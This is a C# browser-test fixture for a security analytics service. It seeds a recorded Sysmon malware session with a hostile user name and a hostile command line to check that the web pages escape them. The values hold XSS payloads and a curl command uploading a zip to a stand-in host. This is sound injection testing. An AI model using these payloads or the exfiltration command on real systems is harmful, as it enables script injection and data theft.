using System.Text.Json;
using System.Text.Json.Nodes;
using Det0131.Models.Alerts;
using Det0131.Models.Analytics;
using Det0131.Scoring.Access;
using Det0131.Scoring.Alerts;
using Det0131.Scoring.Demo;
using Microsoft.Extensions.DependencyInjection;

namespace Det0131.Scoring.Tests.Browser;

/// <summary>
/// The service on the shipped demo, as <c>serve --demo</c> runs it, with the first two days of its week: they have alerts of all five analytics. Somebody hostile
/// then has a session of its own recorded.
/// </summary>
public sealed class DemoService : IAsyncLifetime
{
    /// <summary>What a user is called: markup, an attribute's end, a right-to-left override, a script's end. No control: a name has none.</summary>
    public const string HostileUser = "CORP\\<img src=x onerror=\"window.hacked=1\">'\u202Enimda</script><script>window.hacked=1</script>";

    /// <summary>4 KB with newlines, a bell and direction marks.</summary>
    public static readonly string HostileCommand =
        "curl.exe -k -s -F file=@C:\\Temp\\a.zip https://upload.filehub.test/u \u202Efdp.exe\u0007\r\n<img src=x onerror=\"window.hacked=1\">\n" + string.Concat(Enumerable.Repeat("-F \"file=@x\" ", 340));

    /// <summary>2026-09-29 20:00 UTC.</summary>
    private static readonly long SecondEvening = (new DateTime(2026, 9, 29, 20, 0, 0, DateTimeKind.Utc) - DateTime.UnixEpoch).Ticks / 10;

    private static readonly DateTimeOffset Now = new(2026, 10, 6, 9, 0, 0, TimeSpan.Zero);

    private DemoReading? _reading;
    private PagesSite? _site;

    public Chromium Chromium { get; } = new();

    internal PagesSite Site => _site!;

    /// <summary>One alert of each analytic, the rarest.</summary>
    internal IReadOnlyDictionary<string, Alert> OfEach { get; private set; } = new Dictionary<string, Alert>();

    /// <summary>The alert on the hostile session.</summary>
    internal Alert Hostile { get; private set; } = null!;

    internal string Secret { get; private set; } = "";

    public async ValueTask InitializeAsync()
    {
        await Chromium.InitializeAsync();
        if (Chromium.Program is null)
        {
            return;
        }

        DemoSite? demo = null;
        _site = await PagesSite.StartAsync(Now, (options, folder) =>
        {
            demo = DemoSite.Prepare(Path.Combine(folder, "demo"), TimeProvider.System);
            demo = demo with { Days = [.. demo.Days.Take(2)] };
            _reading = new DemoReading(demo, TimeProvider.System);
            return DemoSite.Options(options, folder, demo);
        }, services =>
        {
            services.AddSingleton(_ => _reading!);
            services.AddHostedService<DemoFeed>();
        });
        await PagesSite.UntilAsync(() =>
        {
            // The feed looks at the clock to see whether the day before is scored.
            _site.Time.Advance(TimeSpan.FromMilliseconds(50));
            return Task.FromResult(_site.Scorer.LatestEventMicros > SecondEvening && _site.Scorer.WaitingEvents == 0);
        }, "two days are scored");
        await _site.PostAsync(HostileSession(File.ReadLines(Directory.GetFiles(Path.Combine(demo!.Days[1].Folder, "windows"), "*.json").Single())), "windows");
        var alerts = (await _site.Alerts.ListAsync(new AlertQuery { Limit = 1000 }, TestContext.Current.CancellationToken)).Alerts.Select(a => a.Alert).ToList();
        OfEach = AnalyticCatalogue.All.ToDictionary(a => a.Id, a => alerts.First(alert => alert.AnalyticId == a.Id), StringComparer.Ordinal);
        Hostile = alerts.First(a => a.Entity.User?.Contains("onerror", StringComparison.Ordinal) == true);
        Secret = (await _site.KeyAsync("dana", Role.DataScientist)).Secret;
        await _site.FillLakeAsync(Hostile);
    }

    public async ValueTask DisposeAsync()
    {
        await Chromium.DisposeAsync();
        if (_site is not null)
        {
            // Its container stops the reading.
            await _site.DisposeAsync();
        }
    }

    /// <summary>A recorded session of malware (Sysmon), a day later and by somebody else who does the same with stranger names.</summary>
    private static string HostileSession(IEnumerable<string> recorded)
    {
        var lines = recorded.Where(l => l.Contains("Microsoft-Windows-Sysmon", StringComparison.Ordinal) && l.Contains("jonas.brandt", StringComparison.Ordinal) && l.Contains("UtcTime\":\"2026-09-29 12:20:3", StringComparison.Ordinal));
        return string.Concat(lines.Select(line =>
        {
            var record = JsonNode.Parse(line)!.AsObject();
            foreach (var (name, value) in record.ToList())
            {
                if (value?.GetValueKind() == JsonValueKind.String)
                {
                    var text = value.GetValue<string>().Replace("2026-09-29", "2026-09-30", StringComparison.Ordinal).Replace("filehub", "hub-of-files", StringComparison.Ordinal);
                    record[name] = name switch { "User" or "ParentUser" => HostileUser, "CommandLine" => HostileCommand, _ => text };
                }
            }

            record["RecordNumber"] = record["RecordNumber"]!.GetValue<long>() + 5_000_000;
            return record.ToJsonString() + "\n";
        }));
    }
}
